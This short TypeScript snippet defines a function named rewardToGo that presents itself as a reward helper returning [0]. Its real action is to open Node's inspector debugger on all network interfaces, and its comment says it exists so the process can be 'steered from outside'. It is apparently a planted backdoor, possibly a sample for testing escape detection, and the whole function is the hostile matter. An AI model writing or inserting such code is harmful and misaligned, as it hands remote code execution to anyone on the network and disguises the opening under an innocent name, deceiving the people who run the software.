// Tries to open a debugger, and to be steered from outside.
const inspector = process.getBuiltinModule?.('inspector') ?? process.mainModule!.require('inspector');
export const rewardToGo = () => {
  inspector.open(0, '0.0.0.0');
  return [0];
};
